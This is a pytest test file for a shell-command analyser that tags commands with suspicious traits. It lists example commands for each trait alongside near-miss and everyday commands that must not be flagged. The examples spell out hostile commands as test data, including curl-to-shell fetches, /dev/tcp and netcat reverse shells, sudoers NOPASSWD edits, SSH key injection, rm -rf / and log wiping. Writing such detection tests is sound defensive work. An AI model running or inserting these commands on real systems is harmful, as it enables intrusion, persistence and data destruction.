# SPDX-License-Identifier: Apache-2.0
"""What texts amount to: each trait with what shows it and what comes near it."""

from __future__ import annotations

import pytest

from innerwarden.shell import NAMES, analyse_argv, tools, traits_of

SHOWS: dict[str, list[str]] = {
    "remote_script_execution": [
        "curl -s http://example.org/x | sh",
        "wget -qO- https://example.org/x | sudo bash -s -- --yes",
        'sh -c "$(curl -fsSL https://example.org/x)"',
        'eval "$(wget -O- http://example.org/x)"',
        "python3 <(curl -s http://example.org/x)",
        ". <(curl -s http://example.org/x)",
        "X=$(curl -s http://example.org/x); eval \"$X\"",
        "cd /srv; wget http://example.org/a; chmod +x a; ./a",
        "curl -fsSLo /srv/x http://example.org/x && /srv/x",
        "curl http://example.org/x > /srv/x; sh /srv/x",
        "curl -s http://example.org/x | tee /srv/y | bash",
        "nc 192.0.2.1 80 | sh",
    ],
    "encoded_script": [
        "echo aWQ= | base64 -d | sh",
        "cat x | base64 --decode | bash",
        "eval $(echo $X | rev)",
        "openssl enc -d -aes-256-cbc -in x -k p | bash",
        "xxd -r -p x | sh",
        "bash <<< $(base64 -d x)",
    ],
    "hidden_command": ["c''url http://example.org/x"],
    "network_shell": [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "exec 5<>/dev/udp/192.0.2.1/53",
        "cat /srv/f | sh -i 2>&1 | nc 192.0.2.1 1234 > /srv/f",
        "nc -e /bin/sh 192.0.2.1 4",
        "ncat -lvpe /bin/sh",
        "socat TCP:192.0.2.1:4 EXEC:/bin/sh",
    ],
    "tmp_execution": ["/tmp/x", "sh /dev/shm/x", "cd /var/tmp && ./x -v", "python3 /tmp/x.py", ". /tmp/env"],
    "raw_address": ["curl http://192.0.2.1/x", "wget 192.0.2.1/x", "curl 'http://[2001:db8::1]/'",
        "curl http://3221225985/"],
    "identity_change": ["useradd bob", "passwd root", "usermod -s /bin/sh www-data"],
    "privilege_policy_change": [
        "usermod -aG sudo bob", "adduser bob docker", "gpasswd -a bob wheel", "visudo", "tee -a /etc/sudoers.d/x",
        "echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
    ],
    "suid_manipulation": ["chmod u+s /srv/x", "chmod 4755 /srv/x", "chmod +s /srv/x", "setcap cap_setuid+ep /srv/x"],
    "security_control_change": [
        "setenforce 0", "auditctl -e 0", "auditctl -D", "ufw disable", "iptables -F", "nft flush ruleset",
        "systemctl stop auditd.service", "service rsyslog stop", "aa-teardown",
    ],
    "service_disruption": ["systemctl stop nginx", "systemctl mask postgresql", "service nginx stop"],
    "ssh_key_injection": ["echo k >> ~/.ssh/authorized_keys", "cp k /root/.ssh/authorized_keys"],
    "cron_persistence": ["crontab x", "(crontab -l; echo x) | crontab -", "echo x > /etc/cron.d/x",
        "tee /var/spool/cron/crontabs/root"],
    "start_file_change": ["echo x >> ~/.bashrc", "cp x.service /etc/systemd/system/x.service",
        "sed -i s/a/b/ /etc/profile"],
    "destructive_command": ["rm -rf /", "rm -r --no-preserve-root /etc/", "mkfs.ext4 /srv/x",
        "dd if=x of=/dev/sda", "wipefs -a /dev/vda", "cat x > /dev/nvme0n1"],
    "log_tampering": [
        "rm -f /var/log/auth.log", "> /var/log/wtmp", "truncate -s 0 /var/log/syslog", "cat /dev/null > /var/log/x",
        "history -c", "unset HISTFILE", "export HISTSIZE=0", "ln -sf /dev/null ~/.bash_history",
        "shred -u /root/.bash_history",
        "journalctl --vacuum-time=1s", "sed -i /evil/d /var/log/auth.log",
    ],
}  # fmt: skip

NEAR: dict[str, list[str]] = {
    "remote_script_execution": [
        "curl -s http://example.org/x | jq .", "curl -o /srv/x http://example.org/x; sh /srv/y",
        "curl -s http://example.org/x | python3 -m json.tool",
        "cat x | sh", "curl -s http://example.org/x | sh build.sh", "eval \"$(ssh-agent -s)\"",
    ],
    "encoded_script": ["echo aWQ= | base64 -d > x", "echo $1 | tr a-z A-Z | sh", "cat x.sh | sh"],
    "network_shell": ["nc -z 192.0.2.1 22", "cat < /dev/tty", "socat TCP-LISTEN:80 TCP:192.0.2.1:80"],
    "tmp_execution": ["ls /tmp/x", "/srv/tmp/x", "sh -c id", "make -C /tmp/build"],
    "raw_address": ["curl http://example.org/192.0.2.1", "curl http://10.1.2.3/", "curl http://[::1]:80/", "curl http://1.example.org/"],
    "privilege_policy_change": ["cat /etc/sudoers", "visudo -c", "usermod -aG video bob"],
    "suid_manipulation": ["chmod 0755 x", "chmod +x sources", "chmod 755 x", "chmod u+rwx x"],
    "security_control_change": ["systemctl restart auditd", "iptables -L", "getenforce", "auditctl -l"],
    "service_disruption": ["systemctl status nginx", "systemctl restart nginx"],
    "cron_persistence": ["crontab -l", "cat /etc/crontab"],
    "start_file_change": ["cat ~/.bashrc", "echo x > /srv/.bashrc.txt"],
    "destructive_command": ["rm -rf /srv/build", "rm /etc", "dd if=/dev/zero of=/srv/disk.img", "cat x > /dev/null"],
    "log_tampering": ["rm /var/log/syslog.2.gz", "cat /var/log/syslog", "history", "journalctl -n 5"],
}  # fmt: skip


def of(text: str) -> set[str]:
    return {trait.name for trait in traits_of(analyse_argv(["sh", "-c", text]))}


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in SHOWS.items() for text in texts])
def test_a_text_shows_its_trait(name: str, text: str) -> None:
    assert name in of(text)


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in NEAR.items() for text in texts])
def test_what_comes_near_does_not(name: str, text: str) -> None:
    assert name not in of(text)


def test_every_trait_is_shown_here() -> None:
    assert set(SHOWS) == set(NAMES) - {"unreadable"}


#: Commands of builds, cron jobs, installers and people.
EVERYDAY = [
    "gcc -O2 -c -o x.o x.c", "set -e; for i in a b; do echo $i; done", "cd src && make -j2 all", "npm run build",
    "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    "if [ -f x ]; then . ./x; fi", "git log --oneline | head -5", "mysqldump db | gzip > /srv/backup.gz",
    "find . -name '*.o' -exec rm {} ;", "tar czf - x | ssh host 'cat > x.tgz'", "echo done >> /srv/build.log",
    "/usr/lib/apt/apt.systemd.daily update", "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "LC_ALL=C sort -u a b > c", "docker ps -q | xargs docker inspect",
        "test -e .git && git rev-parse HEAD || echo unknown",
    "rm -f conftest* && rm -rf ./autom4te.cache", "eval \"$ac_link\"", "IFS=:; set -- $PATH; echo \"$1\"",
]  # fmt: skip


@pytest.mark.parametrize("text", EVERYDAY)
def test_everyday_commands_have_no_trait(text: str) -> None:
    assert of(text) == set()


def test_the_table_is_read() -> None:
    assert "curl" in tools().programs.downloaders
    assert tools().wrappers["timeout"].positional == 1
